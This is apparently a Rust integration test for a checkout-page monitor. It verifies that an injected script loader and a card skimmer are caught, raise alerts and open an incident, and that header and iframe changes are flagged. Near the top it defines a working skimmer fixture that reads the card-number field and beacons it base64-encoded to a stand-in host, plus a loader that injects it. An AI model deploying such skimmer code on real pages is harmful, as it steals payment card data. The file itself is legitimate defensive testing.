//! The payment-page monitor end to end (issue 14's "must show"): a test
//! store's checkout page served on loopback, crawled in Debian's chromium
//! through `POST /v1/pagewatch/pages/{name}/runs`. The first run inventories
//! the page; a script injected at run time by another script is caught on the
//! next run as a new unapproved script with its new outbound host, raises
//! alerts and opens a `web_skimmer` incident with the run's evidence;
//! approving it clears the page's alert state; one changed byte of an
//! approved script is caught. A weakened policy, dropped HSTS and a swapped
//! payment iframe alert too; a page that fails to load changes nothing.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use bulwark_server::{router, AppState};
use bulwark_testkit::Shop;
use http_body_util::BodyExt;
use serde_json::{json, Value};
use tower::ServiceExt;

const APP_JS: &str = "window.shop = {cart: 2};\n";
/// What an attacker adds to the store's own script: a loader for the skimmer.
const LOADER: &str = "var s = document.createElement('script'); s.src = 'http://cdn-payments.localhost:PORT/skim.js'; document.head.appendChild(s);\n";
const SKIMMER: &str = r#"document.querySelector('form').addEventListener('submit', function () {
  var n = document.querySelector('input[name=cc_number]').value;
  new Image().src = 'http://cdn-payments.localhost:PORT/c.gif?d=' + btoa(n);
});
"#;

async fn call(
    app: &axum::Router,
    method: Method,
    uri: &str,
    key: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let req = Request::builder()
        .method(method)
        .uri(uri)
        .header("authorization", format!("Bearer {key}"))
        .header("content-type", "application/json")
        .body(body.map_or_else(Body::empty, |b| Body::from(b.to_string())))
        .unwrap();
    let res = app.clone().oneshot(req).await.unwrap();
    let status = res.status();
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    (status, serde_json::from_slice(&bytes).unwrap_or_default())
}

/// A store watching `url` as `checkout`, and the API over it with detection on
/// (built off the test's runtime: the store's writes block).
fn watching_checkout(url: String) -> (axum::Router, bulwark_testkit::StoreFixture) {
    std::thread::spawn(move || {
        let f = bulwark_testkit::StoreFixture::new();
        f.store
            .watch_page(
                bulwark_store::NewWatchedPage {
                    url,
                    name: Some("checkout".into()),
                    every_secs: 3600,
                    cookies: vec![],
                },
                "owner:test",
            )
            .unwrap();
        let state =
            AppState::with_detection(f.store.clone(), bulwark_store::RulePacks::default()).unwrap();
        (router(state), f)
    })
    .join()
    .unwrap()
}

fn actions(run: &Value) -> Vec<String> {
    run["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["change"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_injected_skimmer_is_caught_alerted_and_evidenced_and_approval_and_one_byte_changes_work(
) {
    let shop = Shop::start();
    let port = shop.port.to_string();
    shop.put_html(
        "/checkout",
        &[("Content-Security-Policy", "script-src 'self' 'unsafe-inline' cdn-payments.localhost:*"), ("X-Frame-Options", "DENY")],
        r#"<!doctype html><html><head><title>Checkout</title><script src="/js/app.js"></script></head>
<body><form><input name="cc_number"><button>Pay</button></form><iframe src="/pay"></iframe></body></html>"#,
    );
    shop.put_html("/pay", &[], "<p>card fields</p>");
    shop.put_js("/js/app.js", APP_JS);
    shop.put_js("/skim.js", &SKIMMER.replace("PORT", &port));
    let url = shop.url("/checkout");
    let (app, f) = watching_checkout(url);
    let key = f.admin_key.clone();
    let run = |app: axum::Router, key: String| async move {
        call(
            &app,
            Method::POST,
            "/v1/pagewatch/pages/checkout/runs",
            &key,
            None,
        )
        .await
    };

    // 1. The baseline: inventoried, nothing alerted.
    let (s, first) = run(app.clone(), key.clone()).await;
    assert_eq!(s, StatusCode::CREATED, "{first}");
    assert_eq!(first["baseline"], true);
    assert_eq!(first["alerts"], json!([]));
    assert!(first["incident"].is_null());
    let (_, inv) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    let app_js = shop.url("/js/app.js");
    let row = inv["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["script"] == app_js.as_str())
        .unwrap()
        .clone();
    assert_eq!(row["state"], "new", "{inv}");
    assert_eq!(inv["iframes"], json!([shop.url("/pay")]));

    // The store authorises its own script (6.4.3: owner and justification).
    let (s, approval) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/approvals",
        &key,
        Some(json!({"script": app_js, "owner": "web team", "justification": "the cart"})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{approval}");
    assert_eq!(approval["sha256"], json!([row["sha256"]]));
    let (s, again) = run(app.clone(), key.clone()).await;
    assert_eq!(s, StatusCode::CREATED);
    assert_eq!(
        again["changes"],
        json!([]),
        "an unchanged page reports nothing"
    );
    assert_eq!(again["unauthorised"], 0);

    // 2. The attacker appends a loader to the store's script; the skimmer it
    // inserts at run time is only visible to a browser.
    shop.put_js(
        "/js/app.js",
        &format!("{APP_JS}{}", LOADER.replace("PORT", &port)),
    );
    let (s, hit) = run(app.clone(), key.clone()).await;
    assert_eq!(s, StatusCode::CREATED, "{hit}");
    let skim = shop.url_on("cdn-payments.localhost", "/skim.js");
    let acts = actions(&hit);
    assert!(acts.contains(&"script-changed".to_owned()), "{acts:?}");
    assert!(acts.contains(&"new-script".to_owned()), "{acts:?}");
    assert!(acts.contains(&"new-outbound-host".to_owned()), "{acts:?}");
    let new_script = hit["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["change"] == "new-script")
        .unwrap();
    assert_eq!(new_script["key"], skim.as_str());
    assert_eq!(
        new_script["script"]["initiator"],
        app_js.as_str(),
        "inserted by the store's own script"
    );
    assert!(!hit["alerts"].as_array().unwrap().is_empty());
    let incident = hit["incident"].as_u64().expect("an incident was opened");
    let record = f.store.incident(incident).unwrap();
    assert_eq!(
        serde_json::to_value(record.incident.classification).unwrap(),
        "web_skimmer"
    );
    // The run's evidence is on the incident, hash-checked.
    let evidence = f.store.evidence(incident).unwrap();
    let names: Vec<&str> = evidence.iter().map(|e| e.name.as_str()).collect();
    assert!(
        names.contains(&"checkout-rendered.html") && names.contains(&"checkout-run-manifest.json"),
        "{names:?}"
    );
    let skim_body = SKIMMER.replace("PORT", &port);
    let skim_sha = bulwark_pagewatch::inventory::Digests::of(skim_body.as_bytes()).sha256;
    assert!(
        evidence.iter().any(|e| e.sha256 == skim_sha),
        "the skimmer's body is evidence"
    );
    assert!(f
        .store
        .verify_evidence(incident)
        .unwrap()
        .iter()
        .all(|(_, ok)| *ok));
    let (_, inv) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    let state_of = |inv: &Value, k: &str| {
        inv["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["script"] == k)
            .map(|r| r["state"].clone())
    };
    assert_eq!(state_of(&inv, &skim), Some(json!("new")));
    // Scored with the skimmer indicators, shown with the script.
    let skim_row = inv["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["script"] == skim.as_str())
        .unwrap();
    assert!(skim_row["score"].as_u64().unwrap() >= 40, "{skim_row}");
    assert!(
        skim_row["indicators"]
            .as_array()
            .unwrap()
            .contains(&json!("card-field-exfiltration")),
        "{skim_row}"
    );
    assert!(hit["scores"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s["script"] == skim.as_str()));
    assert_eq!(
        state_of(&inv, &app_js),
        Some(json!("changed")),
        "a changed body resets authorisation"
    );

    // 3. Approving both (say the team decided they are legitimate) clears the
    // alert state: nothing unauthorised, and the next run reports nothing new.
    for (script, why) in [
        (&skim, "payment widget"),
        (&app_js, "the cart, with the widget loader"),
    ] {
        let (s, v) = call(
            &app,
            Method::POST,
            "/v1/pagewatch/pages/checkout/approvals",
            &key,
            Some(json!({"script": script, "owner": "web team", "justification": why})),
        )
        .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let (s, v) = call(&app, Method::POST, "/v1/pagewatch/pages/checkout/approvals", &key,
        Some(json!({"host": "cdn-payments.localhost", "owner": "web team", "justification": "widget"}))).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (_, inv) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    assert_eq!(state_of(&inv, &skim), Some(json!("authorised")));
    let (_, calm) = run(app.clone(), key.clone()).await;
    assert_eq!(calm["changes"], json!([]), "{calm}");
    assert_eq!(calm["unauthorised"], 0);
    assert_eq!(calm["alerts"], json!([]));

    // The proposed policy allows what is authorised and reports to this page's endpoint.
    let (s, csp) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/csp",
        &key,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{csp}");
    assert_eq!(csp["header"], "Content-Security-Policy-Report-Only");
    let value = csp["value"].as_str().unwrap();
    assert!(
        value.contains(&format!("http://cdn-payments.localhost:{port}")),
        "{value}"
    );
    assert!(
        value.contains("connect-src 'self' cdn-payments.localhost"),
        "{value}"
    );
    assert!(value.contains("/v1/csp-reports/"), "{value}");

    // 4. One byte of the approved skimmer changes: caught, authorisation reset.
    shop.put_js("/skim.js", &skim_body.replacen("c.gif", "d.gif", 1));
    let (_, changed) = run(app.clone(), key.clone()).await;
    assert_eq!(
        actions(&changed),
        vec!["script-changed".to_owned()],
        "{changed}"
    );
    assert_eq!(changed["changes"][0]["key"], skim.as_str());
    assert_eq!(changed["changes"][0]["was_authorised"], true);
    assert!(!changed["alerts"].as_array().unwrap().is_empty());
    let (_, inv) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    assert_eq!(state_of(&inv, &skim), Some(json!("changed")));

    // The runs are listed and ledgered.
    let (_, runs) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(runs["items"].as_array().unwrap().len(), 5);
    assert!(runs["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["outcome"] == "ok"));
    // Every watched page checked: PCI DSS 11.6.1 is done for today.
    assert_eq!(
        last_page_check(&f.store),
        Some(time::OffsetDateTime::now_utc().date())
    );
}

fn last_page_check(store: &bulwark_store::Store) -> Option<time::Date> {
    let calendar = store.dir().compliance().unwrap();
    let today = time::OffsetDateTime::now_utc().date();
    store
        .compliance_status(&calendar, today)
        .unwrap()
        .into_iter()
        .find(|d| d.id == "pci-11.6.1-payment-page-changes")
        .unwrap()
        .last_completed
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn weakened_headers_and_a_swapped_payment_iframe_alert_and_a_failed_page_changes_nothing() {
    let shop = Shop::start();
    shop.put_js("/a.js", "var a = 1;");
    let page =
        |frame: &str| format!("<script src=\"/a.js\"></script><iframe src=\"{frame}\"></iframe>");
    shop.put_html(
        "/checkout",
        &[
            ("Content-Security-Policy", "script-src 'self'"),
            ("Strict-Transport-Security", "max-age=31536000"),
        ],
        &page("/pay"),
    );
    let url = shop.url("/checkout");
    let (app, f) = watching_checkout(url);
    let key = f.admin_key.clone();
    let (s, _) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::CREATED);
    let (_, before) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    assert_eq!(before["items"].as_array().unwrap().len(), 1);

    // The policy is loosened, HSTS dropped and the payment iframe swapped:
    // each is a change the checkout rules alert on.
    shop.put_html(
        "/checkout",
        &[(
            "Content-Security-Policy",
            "script-src 'self' 'unsafe-inline'",
        )],
        &page("http://pay-secure.localhost:1/frame"),
    );
    let (s, weak) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{weak}");
    let acts = actions(&weak);
    assert!(acts.contains(&"header-weakened".to_owned()), "{acts:?}");
    assert!(acts.contains(&"iframe-changed".to_owned()), "{acts:?}");
    let weaknesses: Vec<(String, String)> = weak["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["change"] == "header-weakened")
        .map(|c| {
            (
                c["header"].as_str().unwrap().to_owned(),
                c["code"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert!(
        weaknesses.contains(&(
            "content-security-policy".into(),
            "unsafe-inline-added".into()
        )),
        "{weaknesses:?}"
    );
    assert!(
        weaknesses.contains(&("strict-transport-security".into(), "removed".into())),
        "{weaknesses:?}"
    );
    assert!(!weak["alerts"].as_array().unwrap().is_empty(), "{weak}");
    // The inventory a failed run must leave as it is.
    let (_, before) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;

    // The page now answers 404: 502 with why, the run is listed as failed,
    // and the inventory is as it was (a page that did not load has not lost
    // its scripts).
    shop.remove("/checkout");
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::BAD_GATEWAY, "{v}");
    assert!(v["detail"].as_str().unwrap().contains("HTTP 404"), "{v}");
    let (_, inv) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/scripts",
        &key,
        None,
    )
    .await;
    assert_eq!(inv, before);
    let (_, runs) = call(
        &app,
        Method::GET,
        "/v1/pagewatch/pages/checkout/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(runs["items"][0]["outcome"], "failed");
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/nope/runs",
        &key,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{v}");

    let ledger = f.store.ledger_len().unwrap();
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/approvals",
        &key,
        Some(
            json!({"script": "https://nowhere.example/x.js", "owner": "me", "justification": "j"}),
        ),
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{v}");
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/approvals",
        &key,
        Some(json!({"script": before["items"][0]["script"], "owner": "", "justification": ""})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    assert_eq!(
        v["type"].as_str().map(|t| t.ends_with("validation")),
        Some(true),
        "{v}"
    );
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/approvals",
        &key,
        Some(json!({"host": "a.example", "script": "x", "owner": "me", "justification": "j"})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    let (s, v) = call(
        &app,
        Method::POST,
        "/v1/pagewatch/pages/checkout/approvals/999/revoke",
        &key,
        Some(json!({"reason": "gone"})),
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{v}");
    assert_eq!(
        f.store.ledger_len().unwrap(),
        ledger,
        "refusals change nothing"
    );

    // 11.6.1 is done only when every watched page has been checked.
    assert!(last_page_check(&f.store).is_some());
    let store = f.store.clone();
    std::thread::spawn(move || {
        store
            .watch_page(
                bulwark_store::NewWatchedPage {
                    url: "http://127.0.0.1:9/pay".into(),
                    name: Some("pay".into()),
                    every_secs: 3600,
                    cookies: vec![],
                },
                "owner:test",
            )
            .unwrap()
    })
    .join()
    .unwrap();
    assert_eq!(last_page_check(&f.store), None);
}
